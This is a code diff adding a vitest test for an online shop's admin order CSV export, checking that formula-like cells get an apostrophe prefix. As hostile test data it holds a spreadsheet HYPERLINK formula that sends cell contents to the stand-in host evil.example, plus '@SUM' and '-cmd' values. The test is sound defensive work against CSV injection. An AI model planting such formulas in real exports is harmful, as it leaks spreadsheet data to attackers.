@@ -1,3 +1,4 @@
+import { parse as parseCsv } from "csv-parse/sync";
 import { and, eq, sql } from "drizzle-orm";
 import { describe, expect, it, vi } from "vitest";
 import { auditLog, emailOutbox, orderLines, orders, records, refunds, stockMovements, users } from "../../db/schema";
@@ -446,5 +447,24 @@ describe("list and CSV", () => {
     expect(lines[1]).toContain(`${order.orderNumber},`);
     expect(lines[1]).toContain(",Paid,'=cmd,csv-export@example.com,SW1A 1AA,1,12.34,");
     expect(lines[1]).toContain(`,${(order.totals.totalPence / 100).toFixed(2)},`);
+  });
+
+  it("writes every text cell of the CSV a spreadsheet would run as a formula with an apostrophe in front", async () => {
+    const rec = insertRecord(shop.t.db, { pricePence: 999, stockQuantity: 5 });
+    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    const order = await paidOrder([{ recordId: rec.id, quantity: 1 }], { email: "csv-hostile@example.com", name });
+    // Tracking numbers are checked when typed; one stored before that check, or by hand, is still written safely.
+    shop.t.db
+      .update(orders)
+      .set({ trackingNumber: "@SUM(A1:A9)", shippingService: "-cmd" })
+      .where(eq(orders.orderNumber, order.orderNumber))
+      .run();
+    const [header, row, ...rest] = parseCsv(shop.s.adminOrders.csv(query({ q: "csv-hostile@" })), { bom: true }) as string[][];
+    expect(rest).toEqual([]);
+    const cell = (column: string) => row![header!.indexOf(column)];
+    expect(cell("Customer")).toBe(`'${name}`);
+    expect(cell("Tracking number")).toBe("'@SUM(A1:A9)");
+    expect(cell("Royal Mail service")).toBe("'-cmd");
+    expect(cell("Total (GBP)")).toBe((order.totals.totalPence / 100).toFixed(2));
   });
 });
